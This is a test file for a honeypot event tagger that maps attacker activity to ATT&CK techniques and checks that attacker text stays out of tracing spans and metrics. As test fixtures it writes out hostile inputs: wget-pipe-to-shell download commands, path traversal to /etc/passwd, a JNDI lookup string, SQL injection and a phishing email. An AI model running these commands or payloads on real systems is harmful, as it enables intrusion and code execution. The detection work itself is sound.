import { trace } from '@opentelemetry/api'
import { BasicTracerProvider, type ReadableSpan, SimpleSpanProcessor } from '@opentelemetry/sdk-trace-base'
import { beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { getTagger, loadRuleset } from '../src/app.js'
import { KNOWN_SOURCE_KINDS } from '../src/events/source-kinds.js'
import type { TaggerEvent } from '../src/events/tagger-event.js'
import { LIFTERS } from '../src/lifters/lifters.js'
import { withSpan } from '../src/observability/tracing.js'
import { EventPipeline } from '../src/pipeline/event-pipeline.js'
import { type TaggedEvent, tagStream } from '../src/pipeline/tag-stream.js'
import { compileRuleset } from '../src/rules/compile-ruleset.js'
import { withState } from '../src/rules/compiled-rule.js'
import { DEFAULT_RULE_STATE } from '../src/rules/rule-state.js'
import type { Ruleset } from '../src/rules/ruleset.js'
import type { Lifter } from '../src/tagging/lifter.js'
import { captureBytes } from './support/capture.js'
import { recordMetrics, type Series } from './support/record-metrics.js'
import { recordSpans, saidBy, spanPaths } from './support/record-spans.js'
import { recordingLog } from './support/recording-log.js'
import { ruleSource } from './support/rule-text.js'
import { commandEvent, testEvent } from './support/tagging.js'

/** Stands in everything that an attacker wrote, and must never come out again. */
const MARK = 'kanarienvogel'

let ruleset: Ruleset
const log = recordingLog()
const spans = recordSpans()
const series = recordMetrics()
beforeAll(async () => {
  ruleset = (await loadRuleset()).ruleset
})
beforeEach(() => spans.reset())

function pipelineOf(rules: Ruleset = ruleset, lifters: readonly Lifter[] = LIFTERS): EventPipeline {
  return new EventPipeline({ ruleset: rules, tagger: getTagger({ tagger_type: 'composite' }, { log, lifters }) })
}

async function tagCapture(): Promise<readonly TaggedEvent[]> {
  const tagged: TaggedEvent[] = []
  for await (const one of tagStream(pipelineOf(), [captureBytes()], { format: 'cowrie' })) tagged.push(one)
  return tagged
}

const spansNamed = (name: string) => spans.getFinishedSpans().filter((span) => span.name === name)

describe('an event that is judged', () => {
  it('is a span with what was asked beneath it, and beneath that each rule that fired', async () => {
    const event = commandEvent('cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh')
    const tags = await pipelineOf().tag(event)
    const fired = [...new Set(tags.map(({ ruleId }) => ruleId))]
    expect(fired.length).toBeGreaterThan(1)
    expect(spanPaths(spans.getFinishedSpans())).toEqual([
      'ttp.eval',
      'ttp.eval > ttp.eval.dispatch',
      ...fired.map(() => 'ttp.eval > ttp.eval.dispatch > ttp.rule.fire'),
    ])
    expect(spansNamed('ttp.eval')[0]!.attributes).toEqual({
      'ttp.source.kind': 'command',
      'ttp.source.id': event.sourceId,
      'ttp.attacker.uuid': event.attackerUuid,
      'ttp.tags': tags.length,
    })
    expect(spansNamed('ttp.rule.fire').map(({ attributes }) => attributes)).toEqual(
      fired.map((ruleId) => ({
        'ttp.rule.id': ruleId,
        'ttp.rule.version': ruleset.rules.get(ruleId)!.ruleVersion,
        'ttp.technique.ids': tags
          .filter((tag) => tag.ruleId === ruleId)
          .map(({ techniqueId, subTechniqueId }) => subTechniqueId ?? techniqueId),
      })),
    )
  })

  it('shows the lifters that it asked, those too that saw nothing', async () => {
    const counts = { scope: 'session', attempts: 40, failures: 40, usernames: 1, passwords: 40, guessed_passwords: 40 }
    await pipelineOf().tag(testEvent({ sourceKind: 'credential', payload: { ...counts, passwords_per_account: 40 } }))
    expect(spanPaths(spans.getFinishedSpans())).toContain('ttp.eval > ttp.lifter.credential > ttp.rule.fire')
    spans.reset()
    await pipelineOf().tag(testEvent({ sourceKind: 'credential', payload: {} }))
    expect(spanPaths(spans.getFinishedSpans())).toEqual([
      'ttp.eval',
      'ttp.eval > ttp.eval.dispatch',
      'ttp.eval > ttp.lifter.credential',
    ])
  })

  it('hangs below the span that is active, such as that of its batch', async () => {
    await withSpan('batch', {}, async () => pipelineOf().tag(commandEvent('true')))
    expect(spanPaths(spans.getFinishedSpans())).toContain('batch > ttp.eval')
  })

  it('keeps the spans of taggers that wait apart', async () => {
    const waiting = countingLifter(async (attempts) => {
      await new Promise((resolve) => setImmediate(resolve))
      return { evidence: { attempts } }
    })
    const pipeline = pipelineOf(rulesetOf(waiting), [waiting])
    const events = [1, 2, 3].map((attempts) => testEvent({ sourceKind: 'credential', payload: { attempts } }))
    const tags = await Promise.all(events.map((event) => pipeline.tag(event)))
    expect(tags.flat()).toHaveLength(3)
    const path = 'ttp.eval > ttp.lifter.counting'
    const expected = ['ttp.eval', 'ttp.eval > ttp.eval.dispatch', path, `${path} > ttp.rule.fire`].flatMap((one) => [
      one,
      one,
      one,
    ])
    expect(spanPaths(spans.getFinishedSpans())).toEqual(expected)
    expect(new Set(spans.getFinishedSpans().map((span) => span.spanContext().traceId)).size).toBe(3)
  })

  it('tells the class of what went wrong in a lifter, and no more', async () => {
    const failing = countingLifter(() => {
      throw new RangeError(`cannot read ${MARK}`)
    })
    const event = testEvent({ sourceKind: 'credential', payload: { attempts: 1 } })
    expect(await pipelineOf(rulesetOf(failing), [failing]).tag(event)).toEqual([])
    expect(spansNamed('ttp.lifter.counting').map(saidBy)).toMatchObject([
      { status: { message: 'RangeError' }, events: [] },
    ])
    expect(JSON.stringify(spans.getFinishedSpans().map(saidBy))).not.toContain(MARK)
  })

  it('is judged alike whether anybody records it or not', async () => {
    const recorded = await tagCapture()
    expect(spansNamed('ttp.eval').length).toBe(recorded.length)
    trace.disable()
    spans.reset()
    const unrecorded = await tagCapture()
    trace.setGlobalTracerProvider(new BasicTracerProvider({ spanProcessors: [new SimpleSpanProcessor(spans)] }))
    expect(unrecorded.map(({ tags }) => tags)).toEqual(recorded.map(({ tags }) => tags))
    expect(spans.getFinishedSpans()).toEqual([])
  })
})

const UUID = /^[\da-f]{8}(?:-[\da-f]{4}){3}-[\da-f]{12}$/

/** What of a span is neither a number nor from a closed set, as the whole of a text. */
function openTexts({ name, attributes, events, links, status }: ReadableSpan): readonly unknown[] {
  const lifters = LIFTERS.map((lifter) => `ttp.lifter.${lifter.name}`)
  const names = ['ttp.eval', 'ttp.eval.dispatch', 'ttp.rule.fire', ...lifters]
  const isClosed: Readonly<Record<string, (value: unknown) => boolean>> = {
    'ttp.source.kind': (kind) => kind === 'other' || KNOWN_SOURCE_KINDS.has(String(kind)),
    'ttp.source.id': (id) => UUID.test(String(id)),
    'ttp.attacker.uuid': (id) => UUID.test(String(id)),
    'ttp.identity.uuid': (id) => UUID.test(String(id)),
    'ttp.rule.id': (id) => ruleset.rules.has(String(id)),
    'ttp.technique.ids': (ids) => (ids as string[]).every((id) => /^T\d{4}(?:\.\d{3})?$/.test(id)),
  }
  return [
    ...(names.includes(name) ? [] : [name]),
    ...Object.entries(attributes).filter(
      ([key, value]) => typeof value !== 'number' && isClosed[key]?.(value) !== true,
    ),
    ...events,
    ...links,
    ...(status.message === undefined ? [] : [status.message]),
  ]
}

/** Every text in a payload, however deep, names of fields aside. */
function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value]
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : []
}

describe('what an attacker wrote', () => {
  it('is in no span of the capture', async () => {
    const tagged = await tagCapture()
    expect(spans.getFinishedSpans().length).toBeGreaterThan(tagged.length * 2)
    expect(spans.getFinishedSpans().flatMap(openTexts)).toEqual([])
    const said = JSON.stringify(spans.getFinishedSpans().map(saidBy))
    const texts = [...new Set(tagged.flatMap(({ event }) => textsIn(event.payload)))]
    // Shorter ones stand in ids by chance, and what is part of a name of ours says nothing.
    const names = [...KNOWN_SOURCE_KINDS, ...LIFTERS.map(({ name }) => name)]
    const telling = texts.filter((text) => text.length > 6 && !names.some((name) => name.includes(text)))
    expect(telling.length).toBeGreaterThan(1000)
    expect(telling.filter((text) => said.includes(JSON.stringify(text).slice(1, -1)))).toEqual([])
  })

  const mail = `From: ${MARK} <a@${MARK}.example.net>\r\nReply-To: b@${MARK}.example.org\r\nSubject: Urgent invoice ${MARK}\r\nTo: c@example.com\r\n\r\nYour password ${MARK}: http://198.51.100.7/${MARK}\r\n`
  const login = { service: 'ssh', username: MARK, password: MARK, success: true, tool: MARK }
  const hostile: readonly Partial<TaggerEvent>[] = [
    {
      sourceKind: 'command',
      payload: { command_text: `wget http://${MARK}.example.net/${MARK} -O- | sh; echo ${MARK}` },
    },
    { sourceKind: 'command', payload: { command_text: `curl -u ${MARK}:${MARK} http://198.51.100.7`, service: MARK } },
    { sourceKind: 'auth_attempt', payload: login },
    {
      sourceKind: 'http_request',
      payload: {
        method: MARK,
        path: `/${MARK}/../../etc/passwd`,
        query: `x=\${jndi:ldap://${MARK}}`,
        headers: { [MARK]: MARK, 'user-agent': `sqlmap ${MARK}` },
        body: `' or 1=1 -- ${MARK}`,
        user_agent: `sqlmap ${MARK}`,
        raw_url: `/${MARK}/../../etc/passwd`,
      },
    },
    {
      sourceKind: 'email',
      payload: { raw: mail, mail_from: `${MARK}@example.net`, recipients: [`${MARK}@example.com`] },
    },
    { sourceKind: 'payload', payload: { url: `http://${MARK}/`, filename: `${MARK}.sh`, type: 'elf', error: MARK } },
    { sourceKind: 'fingerprint', payload: { metric: 'client_version', value: `SSH-2.0-Go ${MARK}`, name: MARK } },
    { sourceKind: 'service_op', payload: { service: MARK, operation: MARK, argument: MARK, destination_host: MARK } },
    { sourceKind: MARK, payload: { [MARK]: MARK } },
    { sourceKind: 'command', payload: { command_text: 'id' }, sourceId: MARK, sessionId: MARK, deckyId: MARK },
    { sourceKind: 'command', payload: { command_text: 'id' }, attackerUuid: MARK, identityUuid: MARK },
  ]

  it('is in no span or label of hostile events, by themselves and as what is concluded from them', async () => {
    const pipeline = pipelineOf()
    let tags = 0
    for (const description of hostile) tags += (await pipeline.tag(testEvent(description))).length
    const lines = [
      { eventid: 'cowrie.login.success', username: MARK, password: MARK },
      { eventid: 'cowrie.command.input', input: `wget http://${MARK}/x; sh x; echo ${MARK}:${MARK} | chpasswd` },
      { eventid: 'cowrie.session.file_upload', filename: MARK, shasum: MARK, destfile: MARK },
      { eventid: 'cowrie.session.closed' },
    ].map((line) =>
      JSON.stringify({
        session: MARK,
        sensor: MARK,
        src_ip: '198.51.100.7',
        timestamp: '2026-11-20T08:25:04Z',
        ...line,
      }),
    )
    const stream = tagStream(pipeline, [Buffer.from(lines.join('\n'))], { format: 'cowrie' })
    for await (const one of stream) tags += one.tags.length
    expect(tags).toBeGreaterThan(10)
    expect(spansNamed('ttp.eval').length).toBeGreaterThan(hostile.length + lines.length)
    expect(spansNamed('ttp.rule.fire').length).toBeGreaterThan(5)
    expect(spans.getFinishedSpans().flatMap(openTexts)).toEqual([])
    const everything = JSON.stringify([spans.getFinishedSpans().map(saidBy), await series()])
    expect(everything).not.toMatch(new RegExp(MARK, 'i'))
  })
})

const countedAs = (all: readonly Series[], metric: string, labels: object = {}) =>
  all.find((one) => one.metric === metric && JSON.stringify(one.labels) === JSON.stringify(labels))?.value

describe('what is counted', () => {
  it('are the events by kind, and the rules that made tags of them', async () => {
    const tagged = await tagCapture()
    const counted = await series()
    const ofKind = (kind: string) => tagged.filter(({ event }) => event.sourceKind === kind).length
    for (const kind of ['command', 'auth_attempt', 'session', 'credential'])
      expect(countedAs(counted, 'ttp.eval.events', { source_kind: kind })).toBe(ofKind(kind))
    const fired = new Map<string, number>()
    for (const { tags } of tagged) {
      for (const rule of new Set(tags.map(({ ruleId }) => ruleId))) fired.set(rule, (fired.get(rule) ?? 0) + 1)
    }
    expect(fired.size).toBeGreaterThan(50)
    const firings = counted.filter(({ metric }) => metric === 'ttp.rule.fire')
    expect(new Map(firings.map(({ labels, value }) => [labels.rule_id, value]))).toEqual(fired)
  })

  it('are kinds that nobody knows as one', async () => {
    const pipeline = pipelineOf()
    for (const sourceKind of ['future', 'other', MARK]) await pipeline.tag(testEvent({ sourceKind, payload: {} }))
    expect((await series()).filter(({ metric }) => metric === 'ttp.eval.events')).toEqual([
      { metric: 'ttp.eval.events', labels: { source_kind: 'other' }, value: 3 },
    ])
  })

  it('is the time of one event in sixteen, the first among them', async () => {
    const pipeline = pipelineOf()
    const event = commandEvent('true')
    await pipeline.tag(event)
    const labels = { source_kind: 'command' }
    expect(countedAs(await series(), 'ttp.eval.latency_ms', labels)).toBe(1)
    for (let more = 0; more < 32; more++) await pipeline.tag(event)
    expect(countedAs(await series(), 'ttp.eval.latency_ms', labels)).toBe(3)
  })

  it.each([1, 3])('are the tags that confidence kept back, of an event that comes %i times', async (times) => {
    const { ruleset: rules } = compileRuleset([ruleSource()])
    const clipped = withState(rules.rules.get('T0001')!, {
      ...DEFAULT_RULE_STATE,
      state: 'clipped',
      confidenceMax: 0.1,
    })
    const pipeline = pipelineOf(rules.with(new Map([['T0001', clipped]])))
    for (let time = 0; time < times; time++) {
      expect(await pipeline.tag(commandEvent('wget http://203.0.113.9/x'))).toEqual([])
    }
    expect(countedAs(await series(), 'ttp.tag.dropped', { reason: 'below_floor' })).toBe(times)
  })

  it('are those of a lifter, too', async () => {
    const doubtful = countingLifter((attempts) => ({ evidence: { attempts }, multiplier: 0.01 }))
    const event = testEvent({ sourceKind: 'credential', payload: { attempts: 1 } })
    expect(await pipelineOf(rulesetOf(doubtful), [doubtful]).tag(event)).toEqual([])
    expect(countedAs(await series(), 'ttp.tag.dropped', { reason: 'below_floor' })).toBe(1)
  })
})

/** A lifter that answers as it is told to. */
function countingLifter(answer: (attempts: number) => ReturnType<Lifter['lift']>): Lifter {
  return {
    name: 'counting',
    handles: new Set(['credential']),
    inputs: { credential: ['attempts'] },
    parameters: z.strictObject({}),
    basis: 'derived',
    lift: (event) => answer(Number(event.payload.attempts)),
  }
}

function rulesetOf(lifter: Lifter): Ruleset {
  const source = ruleSource({ appliesTo: 'credential', match: `{ lifter: ${lifter.name} }` })
  const { ruleset, issues } = compileRuleset([source], { lifters: [lifter] })
  expect(issues).toEqual([])
  return ruleset
}
